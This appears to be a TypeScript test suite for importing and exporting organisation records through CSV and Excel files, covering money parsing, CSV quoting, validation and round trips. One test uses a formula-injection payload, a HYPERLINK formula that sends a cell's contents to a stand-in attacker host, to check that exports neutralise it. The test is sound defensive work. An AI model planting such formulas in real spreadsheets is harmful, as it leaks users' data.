// Import and export of organisations: money parsing, the CSV parser, validation
// with per-row errors, all-or-nothing and partial imports, updates, round trips.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { describe, it, expect, beforeAll, afterAll, beforeEach } from 'vitest';
import { sql } from 'kysely';
import type { Actor } from '../audit/audit.js';
import { type Database } from '../platform/db/database.js';
import { openTestDatabase } from '../../tests/helpers/db.js';
import { makeUscc, demoStream } from './demo-generator.js';
import { demoTransferRows } from './demo.js';
import { COLUMNS, exportOrgs, MAX_RECORD_CHARS, readCsvStream, formatYuan, headerText, importOrgs, parseCsv, parseYuan, readOrgsFileCells, writeOrgsFile, type TransferRow } from './transfer/index.js';

const ACTOR: Actor = { userId: null, label: 'test', ip: null };

describe('parseYuan: 元 text → integer 分, exactly', () => {
  it.each([
    ['1234567.89', 123456789],
    ['0.1', 10],
    ['0.01', 1],
    ['0', 0],
    ['12', 1200],
    ['12.5', 1250],
    ['  7.05 ', 705],
    ['1,234,567.89', 123456789],
    ['89999999999.99', 8999999999999], // near the largest amount allowed (Fen: 9×10^12 分)
    ['19.99', 1999], // 19.99 * 100 = 1998.9999999999998 in floats
    ['0.29', 29], // 0.29 * 100 = 28.999999999999996 in floats
    ['1.15', 115],
  ])('%s → %d', (text, fen) => {
    expect(parseYuan(text)).toEqual({ ok: true, fen });
  });

  it.each(['1e5', '1E5', '12.345', '0.001', '-5', '.5', '5.', 'abc', '', '1,23', '12 345', '１２', '0x10', 'NaN', 'Infinity', '90000000000000.01', '90071992547409.91'])('rejects %j', (text) => {
    expect(parseYuan(text).ok).toBe(false);
  });

  it('allows negatives only where asked (净资产)', () => {
    expect(parseYuan('-1234.5', true)).toEqual({ ok: true, fen: -123450 });
    expect(parseYuan('-0', false)).toEqual({ ok: true, fen: 0 });
  });

  it('formats 分 back to 元 with two decimals, and round-trips', () => {
    expect(formatYuan(123456789)).toBe('1234567.89');
    expect(formatYuan(5)).toBe('0.05');
    expect(formatYuan(-123450)).toBe('-1234.50');
    for (const fen of [0, 1, 10, 99, 100, 101, 123456789, 8999999999999, -7]) {
      expect(parseYuan(formatYuan(fen), true)).toEqual({ ok: true, fen });
    }
  });
});

async function records(chunks: (string | Buffer)[]) {
  const out: { row: number; cells: unknown[] }[] = [];
  for await (const r of readCsvStream(chunks.map((c) => (typeof c === 'string' ? Buffer.from(c) : c)))) out.push(r);
  return out;
}

describe('CSV reader (csv-parse)', () => {
  it('handles quotes, embedded commas, newlines and doubled quotes, CRLF and a BOM', () => {
    const text = '\uFEFFa,b,c\r\n"x, y","line1\nline2","say ""hi"""\r\nplain,,""\n';
    expect(parseCsv(text)).toEqual([
      ['a', 'b', 'c'],
      ['x, y', 'line1\nline2', 'say "hi"'],
      ['plain', '', ''],
    ]);
  });

  it('numbers records as a spreadsheet shows rows, counting blank lines', async () => {
    const recs = await records(['h1,h2\n\n"a\nb",c\r\nd,e']);
    expect(recs.map((r) => r.row)).toEqual([1, 2, 3, 4]);
    expect(recs[2]!.cells).toEqual(['a\nb', 'c']);
    expect(recs[3]!.cells).toEqual(['d', 'e']);
  });

  it('gives the same records whatever the chunking (byte chunks split UTF-8 characters too)', async () => {
    const bytes = Buffer.from('\uFEFFk,n\r\n"q ""1"", 苏州",2\r\n"",\r\n"a\r\nb","c"\r\n');
    const whole = parseCsv(bytes.toString('utf8'));
    expect(whole).toEqual([['k', 'n'], ['q "1", 苏州', '2'], ['', ''], ['a\r\nb', 'c']]);
    for (let size = 1; size <= 7; size++) {
      const chunks: Buffer[] = [];
      for (let i = 0; i < bytes.length; i += size) chunks.push(bytes.subarray(i, i + size));
      expect((await records(chunks)).map((r) => r.cells), `chunk ${size}`).toEqual(whole);
    }
  });

  it('reads CRLF, LF and CR line ends mixed in one file', async () => {
    expect(parseCsv('a,b\rc,d\ne,f\r\ng,h')).toEqual([['a', 'b'], ['c', 'd'], ['e', 'f'], ['g', 'h']]);
    expect((await records([Buffer.from('a,b\r'), Buffer.from('\nc,d\re,f\n')])).map((r) => r.cells)).toEqual([['a', 'b'], ['c', 'd'], ['e', 'f']]);
  });

  it('names the row (and the file line when a quoted line break moves it) of malformed quoting, streaming too', async () => {
    await expect(records(['k,n\n"a\nb",1\n"x"y,1\n'])).rejects.toThrow('CSV 第 3 行（文件第 4 行）第 1 列：引号外还有字符“y”');
    await expect(records(['k,n\n1,2\nab"c,1\n'])).rejects.toThrow('CSV 第 3 行第 1 列：不带引号的字段中出现引号');
    await expect(records(['k,n\n1,2\n3,"open\n4,5\n'])).rejects.toThrow('CSV 第 3 行：引号没有闭合（直到文件末尾）');
    // a quote that never closes in a large file is stopped at the record limit, not read to the end
    const big = 'k,n\n1,"' + 'x'.repeat(MAX_RECORD_CHARS + 10) + '\n';
    await expect(records([big])).rejects.toThrow(/^CSV 第 2 行：一行超过 1,000,000 个字符/);
  });

  it('rejects an unclosed quote and text after a closing quote', () => {
    expect(() => parseCsv('a,"open\n')).toThrow(/引号没有闭合/);
    expect(() => parseCsv('"x"y,1\n')).toThrow(/引号外/);
  });
});

// ------------------------------------------------------------------ database

const codeA = makeUscc('91', '320571', '12345678');
const codeB = makeUscc('91', '320583', 'MA1N2P3Q');
const codeC = makeUscc('91', '320505', '87654321');
const wrongCheck = (code: string) => code.slice(0, 17) + (code[17] === '0' ? '1' : '0');

const HEADER = COLUMNS.map(headerText).join(',');
/** A CSV row from named values; unspecified columns are blank. */
function csvRow(v: Record<string, string>): string {
  return COLUMNS.map((c) => {
    const s = v[c.key] ?? '';
    return /[",\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
  }).join(',');
}
const FIGS = {
  year: '2024',
  revenue: '1234567.89',
  rd_expense: '100000.5',
  rd_expense_domestic: '90000',
  staff: '40',
  rd_staff: '8',
  hightech_revenue: '1000000',
  net_assets: '-5000.25',
  patents_invention: '3',
  patents_utility: '5',
  patents_design: '0',
  software_copyrights: '2',
  patents_high_value: '1',
  tech_contract_income: '0.1',
  equity_financing: '0',
};

describe('importOrgs / exportOrgs', { timeout: 120_000 }, () => {
  let database: Database;
  let dir: string;
  const file = (name: string, text: string) => {
    const p = path.join(dir, name);
    fs.writeFileSync(p, text);
    return p;
  };
  const orgCount = async () => (await sql<{ n: number }>`SELECT count(*)::int AS n FROM organisations`.execute(database.db)).rows[0]!.n;

  beforeAll(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'transfer-test-'));
    database = await openTestDatabase();
  }, 120_000);
  afterAll(async () => {
    await database?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  }, 60_000);
  beforeEach(async () => {
    await sql`TRUNCATE organisations RESTART IDENTITY CASCADE`.execute(database.db);
  });

  const goodRows = [
    csvRow({ kind: 'enterprise', name: '苏州甲科技有限公司', uscc: codeA, district: '苏州工业园区', industry: '39', size_band: '小型', founded_on: '2015-03-01', ...FIGS }),
    csvRow({ kind: '企业', name: '昆山乙精密机械有限公司', uscc: codeB, district: '320583', industry: '34', size_band: 'micro', founded_on: '2019/7/8' }),
    csvRow({ kind: 'university', name: '苏州测试大学', district: '姑苏区', industry: '83' }),
    csvRow({ kind: 'government', name: '市科技局', department: 'kjj' }),
  ];

  it('writes nothing when one row has a wrong check character, and names the row and 统一社会信用代码', async () => {
    const bad = csvRow({ kind: 'enterprise', name: '苏州丙电子有限公司', uscc: wrongCheck(codeC), district: '320505', industry: '39' });
    const p = file('bad.csv', [HEADER, goodRows[0], goodRows[1], bad, goodRows[2]].join('\r\n'));
    const r = await importOrgs(database.db, ACTOR, p);
    expect(r.applied).toBe(false);
    expect(r).toMatchObject({ total: 4, inserted: 0, updated: 0, skipped: 4 });
    expect(r.errors).toHaveLength(1);
    expect(r.errors[0]).toMatchObject({ row: 4, field: 'uscc' });
    expect(r.errors[0]!.message).toMatch(/^第 4 行 统一社会信用代码：校验码错误/);
    expect(await orgCount()).toBe(0);
    const audit = await database.db.selectFrom('audit_log').select(['result', 'detail']).where('action', '=', 'orgs.import').orderBy('seq', 'desc').executeTakeFirstOrThrow();
    expect(audit.result).toBe('error');
  });

  it('in partial mode writes only the valid rows', async () => {
    const bad1 = csvRow({ kind: 'enterprise', name: '苏州丙电子有限公司', uscc: wrongCheck(codeC), district: '320505', industry: '39' });
    const bad2 = csvRow({ kind: 'enterprise', name: '苏州丁有限公司', uscc: codeC, district: '上海市', industry: 'C' });
    const p = file('partial.csv', [HEADER, goodRows[0], bad1, goodRows[1], bad2, goodRows[2], goodRows[3]].join('\n'));
    const r = await importOrgs(database.db, ACTOR, p, { partial: true });
    expect(r.applied).toBe(true);
    expect(r).toMatchObject({ total: 6, inserted: 4, updated: 0, skipped: 2 });
    expect(r.errors.map((e) => [e.row, e.field])).toEqual([
      [3, 'uscc'],
      [5, 'district'],
      [5, 'industry'],
    ]);
    const names = (await database.db.selectFrom('organisations').select('name').orderBy('id').execute()).map((o) => o.name);
    expect(names).toEqual(['苏州甲科技有限公司', '昆山乙精密机械有限公司', '苏州测试大学', '市科技局']);
    const a = await database.db.selectFrom('organisations').selectAll().where('uscc', '=', codeA).executeTakeFirstOrThrow();
    expect(a).toMatchObject({ district_code: '320571', industry_code: '39', size_band: 'small', founded_on: '2015-03-01' });
    const b = await database.db.selectFrom('organisations').selectAll().where('uscc', '=', codeB).executeTakeFirstOrThrow();
    expect(b.founded_on).toBe('2019-07-08');
    const f = await database.db.selectFrom('enterprise_yearly_figures').selectAll().where('org_id', '=', a.id).executeTakeFirstOrThrow();
    expect(f).toMatchObject({ year: 2024, revenue: 123456789, rd_expense: 10000050, rd_expense_domestic: 9000000, net_assets: -500025, tech_contract_income: 10, staff: 40, source: 'imported' });
    const audit = await database.db.selectFrom('audit_log').select(['result', 'detail']).where('action', '=', 'orgs.import').orderBy('seq', 'desc').executeTakeFirstOrThrow();
    expect(audit.result).toBe('ok');
    expect(JSON.parse(audit.detail)).toMatchObject({ total: 6, inserted: 4, skipped: 2, partial: true });
  });

  it('checks figures: year and figures together, amounts exact, cross-field rules, in-file duplicates', async () => {
    const rows = [
      csvRow({ kind: 'enterprise', name: '苏州一有限公司', uscc: codeA, year: '2024' }), // 2: year without figures
      csvRow({ kind: 'enterprise', name: '苏州二有限公司', uscc: codeB, revenue: '100' }), // 3: figures without year
      csvRow({ kind: 'enterprise', name: '苏州三有限公司', uscc: codeC, ...FIGS, revenue: '1e5', rd_expense: '12.345' }), // 4
      csvRow({ kind: 'enterprise', name: '苏州四有限公司', uscc: makeUscc('91', '320506', '11111111'), ...FIGS, rd_staff: '41' }), // 5: rd_staff > staff
      csvRow({ kind: 'enterprise', name: '苏州五有限公司', uscc: codeA.toLowerCase() }), // 6: duplicate of row 2 (normalised)
      csvRow({ kind: 'university', name: '苏州测试大学', ...FIGS }), // 7: figures on a non-enterprise
      csvRow({ kind: 'enterprise', name: '苏州六有限公司' }), // 8: enterprise without uscc
      csvRow({ kind: 'company', name: 'X' }), // 9
      csvRow({ kind: 'enterprise', name: '苏州七有限公司', uscc: makeUscc('91', '320506', '22222222'), ...FIGS, year: '2100' }), // 10: a year not ended
    ];
    const p = file('figs.csv', [HEADER, ...rows].join('\n'));
    const r = await importOrgs(database.db, ACTOR, p);
    expect(r.applied).toBe(false);
    const at = (row: number) => r.errors.filter((e) => e.row === row);
    expect(at(2).length).toBe(14); // every figure missing
    expect(at(2)[0]!.message).toMatch(/^第 2 行 营业收入（元）：已填写数据年度，此项不能为空/);
    expect(at(3).map((e) => e.field)).toEqual(['year']);
    expect(at(4).map((e) => e.field)).toEqual(['revenue', 'rd_expense']);
    expect(at(4)[0]!.message).toMatch(/科学计数法/);
    expect(at(4)[1]!.message).toMatch(/两位小数/);
    expect(at(5)).toEqual([{ row: 5, field: 'rd_staff', message: '第 5 行 研发人员数（人）：研发人员数不能大于职工总数' }]);
    expect(at(6)).toHaveLength(1);
    expect(at(6)[0]!.message).toMatch(/与第 2 行的统一社会信用代码重复/);
    expect(at(7).map((e) => e.field)).toEqual(['year']);
    expect(at(8)[0]!.message).toMatch(/企业必须填写统一社会信用代码/);
    expect(at(9).map((e) => e.field)).toEqual(['kind', 'name']);
    expect(at(10)).toEqual([{ row: 10, field: 'year', message: expect.stringMatching(/^第 10 行 .*年度 2100 尚未结束/) }]);
    expect(await orgCount()).toBe(0);
  });

  it('updates existing organisations on a second import (by uscc, or by kind and name)', async () => {
    await importOrgs(database.db, ACTOR, file('first.csv', [HEADER, ...goodRows].join('\n')));
    const again = [
      csvRow({ kind: 'enterprise', name: '苏州甲智能科技有限公司', uscc: codeA, ...FIGS, revenue: '2000000' }),
      csvRow({ kind: 'enterprise', name: '昆山乙精密机械有限公司', uscc: codeB, ...FIGS, year: '2023' }),
      csvRow({ kind: 'university', name: '苏州测试大学', district: '吴中区' }),
      csvRow({ kind: 'enterprise', name: '苏州丙电子有限公司', uscc: codeC, district: '高新区', industry: '39' }),
    ];
    const r = await importOrgs(database.db, ACTOR, file('second.csv', [HEADER, ...again].join('\n')));
    expect(r).toMatchObject({ applied: true, total: 4, inserted: 1, updated: 3, skipped: 0 });
    const orgs = await database.db.selectFrom('organisations').selectAll().orderBy('id').execute();
    expect(orgs).toHaveLength(5);
    expect(orgs[0]).toMatchObject({ name: '苏州甲智能科技有限公司', district_code: '320571', industry_code: '39', size_band: 'small' }); // blanks keep values
    expect(orgs[2]).toMatchObject({ name: '苏州测试大学', district_code: '320506' });
    expect(orgs[4]).toMatchObject({ uscc: codeC, district_code: '320505' });
    const figs = await database.db.selectFrom('enterprise_yearly_figures').select(['org_id', 'year', 'revenue']).orderBy('org_id').orderBy('year').execute();
    expect(figs).toEqual([
      { org_id: 1, year: 2024, revenue: 200000000 },
      { org_id: 2, year: 2023, revenue: 123456789 },
    ]);
  });

  it('refuses a uscc that belongs to an organisation of another kind, and a taken department', async () => {
    await importOrgs(database.db, ACTOR, file('first.csv', [HEADER, csvRow({ kind: 'university', name: '苏州测试大学', uscc: codeA }), goodRows[3]].join('\n')));
    const rows = [csvRow({ kind: 'enterprise', name: '苏州甲科技有限公司', uscc: codeA }), csvRow({ kind: 'government', name: '苏州市科学技术局', department: '市科技局' })];
    const r = await importOrgs(database.db, ACTOR, file('clash.csv', [HEADER, ...rows].join('\n')));
    expect(r.applied).toBe(false);
    expect(r.errors.map((e) => [e.row, e.field])).toEqual([
      [2, 'uscc'],
      [3, 'department'],
    ]);
    expect(r.errors[0]!.message).toMatch(/苏州测试大学/);
  });

  it('reads a CSV with a BOM, quoted commas and line breaks, and English-only or Chinese-only headers', async () => {
    const header = ['kind', '名称', 'USCC', '所在区县', 'industry'].join(',');
    const text = '\uFEFF' + header + '\r\n' + `enterprise,"苏州""逗号,科技""有限公司",${codeA},320571,65\r\n` + `university,"苏州多行\n大学",,,\r\n`;
    const r = await importOrgs(database.db, ACTOR, file('bom.csv', text));
    expect(r.errors).toEqual([]);
    expect(r.inserted).toBe(2);
    const names = (await database.db.selectFrom('organisations').select('name').orderBy('id').execute()).map((o) => o.name);
    expect(names).toEqual(['苏州"逗号,科技"有限公司', '苏州多行\n大学']);
  });

  it('reads a CSV saved by Excel in GB18030', async () => {
    const bytes = Buffer.concat([Buffer.from('kind,name\r\nuniversity,'), Buffer.from([0xcb, 0xd5, 0xb4, 0xf3]), Buffer.from('\r\n')]); // 苏大
    const p = path.join(dir, 'gbk.csv');
    fs.writeFileSync(p, bytes);
    const r = await importOrgs(database.db, ACTOR, p);
    expect(r.errors).toEqual([]);
    expect((await database.db.selectFrom('organisations').select('name').executeTakeFirstOrThrow()).name).toBe('苏大');
  });

  it('rejects an unknown column or a missing required one before reading any row', async () => {
    const r = await importOrgs(database.db, ACTOR, file('hdr.csv', `kind,name,营收\nenterprise,苏州甲科技有限公司,5\n`));
    expect(r.applied).toBe(false);
    expect(r.errors[0]!.message).toMatch(/不认识的列“营收”/);
    const r2 = await importOrgs(database.db, ACTOR, file('hdr2.csv', `name\n苏州甲科技有限公司\n`));
    expect(r2.errors[0]!.message).toMatch(/缺少必需的列“组织类型 kind”/);
    await expect(importOrgs(database.db, ACTOR, file('x.txt', 'kind,name\n'))).rejects.toThrow(/只支持 .xlsx 和 .csv/);
  });

  it('reads an .xlsx written by hand: numeric amounts, an Excel date, a numeric industry code, a uscc stored as a number', async () => {
    const p = path.join(dir, 'hand.xlsx');
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('组织机构');
    ws.addRow(['组织类型', '名称', '统一社会信用代码', '所在区县', '行业代码', '成立日期', '数据年度', ...COLUMNS.filter((c) => c.type === 'money' || c.type === 'signed_money' || c.type === 'count').map((c) => c.zh)]);
    const figures = COLUMNS.filter((c) => c.type === 'money' || c.type === 'signed_money' || c.type === 'count').map((c) => (c.key === 'revenue' ? 1234567.89 : c.key === 'tech_contract_income' ? 0.1 : 0));
    ws.addRow(['enterprise', '苏州甲科技有限公司', codeA, 320571, 6, new Date(Date.UTC(2016, 4, 9)), 2024, ...figures]);
    ws.getCell('F2').numFmt = 'yyyy-mm-dd';
    ws.addRow(['enterprise', '苏州乙科技有限公司', 913205711234567800, 320571, 39]);
    await wb.xlsx.writeFile(p);
    const r = await importOrgs(database.db, ACTOR, p, { partial: true });
    expect(r.errors.map((e) => [e.row, e.field])).toEqual([[3, 'uscc']]);
    expect(r.errors[0]!.message).toMatch(/存成了数字/);
    const o = await database.db.selectFrom('organisations').selectAll().executeTakeFirstOrThrow();
    expect(o).toMatchObject({ uscc: codeA, district_code: '320571', industry_code: '06', founded_on: '2016-05-09' });
    const f = await database.db.selectFrom('enterprise_yearly_figures').selectAll().executeTakeFirstOrThrow();
    expect(f).toMatchObject({ revenue: 123456789, tech_contract_income: 10 });
  });

  it('keeps Chinese text intact in a large .xlsx with shared strings (exceljs splits UTF-8 across chunks)', async () => {
    const p = path.join(dir, 'shared.xlsx');
    const wb = new ExcelJS.Workbook(); // the in-memory writer uses shared strings, as Excel does
    const ws = wb.addWorksheet('organisations');
    ws.addRow(['kind', 'name']);
    const names = Array.from({ length: 3000 }, (_, i) => `苏州第${i}号测试研究院（纳米·光电·生物医药）`);
    for (const n of names) ws.addRow(['institute', n]);
    await wb.xlsx.writeFile(p);
    const r = await importOrgs(database.db, ACTOR, p);
    expect(r.errors).toEqual([]);
    const stored = (await database.db.selectFrom('organisations').select('name').orderBy('id').execute()).map((o) => o.name);
    expect(stored).toEqual(names);
  });

  for (const ext of ['xlsx', 'csv'] as const) {
    it(`round-trips through .${ext}: export → import into an empty database → export gives identical rows`, async () => {
      const pop = demoStream({ enterprises: 400, seed: 77 });
      const source = path.join(dir, `source.${ext}`);
      const rows: TransferRow[] = [...demoTransferRows({ ...pop, enterprises: pop.enterprises() })];
      expect(await writeOrgsFile(source, rows)).toBe(rows.length);
      const first = await importOrgs(database.db, ACTOR, source);
      expect(first.errors).toEqual([]);
      expect(first.inserted).toBe(rows.length);

      const a = path.join(dir, `a.${ext}`);
      const b = path.join(dir, `b.${ext}`);
      expect(await exportOrgs(database.db, ACTOR, a)).toEqual({ rows: rows.length });
      await sql`TRUNCATE organisations RESTART IDENTITY CASCADE`.execute(database.db);
      const second = await importOrgs(database.db, ACTOR, a);
      expect(second).toMatchObject({ applied: true, total: rows.length, inserted: rows.length, errors: [] });
      await exportOrgs(database.db, ACTOR, b);

      const cellsA = await readOrgsFileCells(a);
      expect(cellsA).toEqual(await readOrgsFileCells(b));
      expect(cellsA).toEqual(await readOrgsFileCells(source));
      if (ext === 'csv') expect(fs.readFileSync(a).equals(fs.readFileSync(b))).toBe(true);
      // Spot check: money survives to the 分.
      const e = rows.find((x) => x.kind === 'enterprise' && x.figures!.revenue % 100 !== 0)!;
      const stored = await database.db
        .selectFrom('enterprise_yearly_figures as f')
        .innerJoin('organisations as o', 'o.id', 'f.org_id')
        .select(['f.revenue', 'f.net_assets', 'f.year'])
        .where('o.uscc', '=', e.uscc)
        .executeTakeFirstOrThrow();
      expect(stored).toEqual({ revenue: e.figures!.revenue, net_assets: e.figures!.netAssets, year: e.year });
      const exports = await database.db.selectFrom('audit_log').select('detail').where('action', '=', 'orgs.export').execute();
      expect(exports.length).toBeGreaterThanOrEqual(2);
    });
  }

  it('exports names that look like formulas as text (apostrophe in front) in .xlsx and .csv, money as numbers; re-import restores the names', async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1', '-1+1', '@SUM(1)', '苏州正常科技有限公司'];
    const uscc = (i: number) => makeUscc('91', '320571', `5555000${i}`);
    const rows = names.map((name, i) => csvRow({ kind: 'enterprise', name, uscc: uscc(i), ...FIGS, net_assets: i % 2 ? '-5000.25' : '5000.25' }));
    const first = await importOrgs(database.db, ACTOR, file('formulas.csv', [HEADER, ...rows].join('\n')));
    expect(first.errors).toEqual([]);
    expect((await database.db.selectFrom('organisations').select('name').orderBy('id').execute()).map((o) => o.name)).toEqual(names);
    const nameCol = COLUMNS.findIndex((c) => c.key === 'name');
    const moneyCols = COLUMNS.map((c, i) => [c, i] as const).filter(([c]) => c.type === 'money' || c.type === 'signed_money').map(([, i]) => i);

    // .xlsx: read back with exceljs — text cells, no formula anywhere, money numbers equal to 分/100
    const x = path.join(dir, 'formulas.xlsx');
    await exportOrgs(database.db, ACTOR, x);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(x);
    const ws = wb.getWorksheet('organisations')!;
    const got: string[] = [];
    ws.eachRow((row, n) => {
      row.eachCell((cell) => expect(cell.type, `row ${n} ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula));
      if (n === 1) return;
      got.push(row.getCell(nameCol + 1).value as string);
      for (const i of moneyCols) expect(typeof row.getCell(i + 1).value, `row ${n} col ${i}`).toBe('number');
      expect(row.getCell(COLUMNS.findIndex((c) => c.key === 'revenue') + 1).value).toBe(123456789 / 100);
    });
    expect(got).toEqual(names.map((n) => (/^[=+\-@]/.test(n) ? `'${n}` : n)));

    // .csv: the same text cells
    const c = path.join(dir, 'formulas.csv');
    await exportOrgs(database.db, ACTOR, c);
    const csvNames = (await readOrgsFileCells(c)).slice(1).map((r) => r[nameCol]);
    expect(csvNames).toEqual(got);

    // and both read back into the original names
    for (const f of [x, c]) {
      await sql`TRUNCATE organisations RESTART IDENTITY CASCADE`.execute(database.db);
      expect((await importOrgs(database.db, ACTOR, f)).errors).toEqual([]);
      expect((await database.db.selectFrom('organisations').select('name').orderBy('id').execute()).map((o) => o.name)).toEqual(names);
    }
  });

  it('exports one kind only', async () => {
    await importOrgs(database.db, ACTOR, file('first.csv', [HEADER, ...goodRows].join('\n')));
    const p = path.join(dir, 'ent.csv');
    expect(await exportOrgs(database.db, ACTOR, p, { kind: 'enterprise' })).toEqual({ rows: 2 });
    const cells = await readOrgsFileCells(p);
    expect(cells.slice(1).map((c) => c[0])).toEqual(['enterprise', 'enterprise']);
    expect(cells[1]![COLUMNS.findIndex((c) => c.key === 'revenue')]).toBe('1234567.89');
  });
});
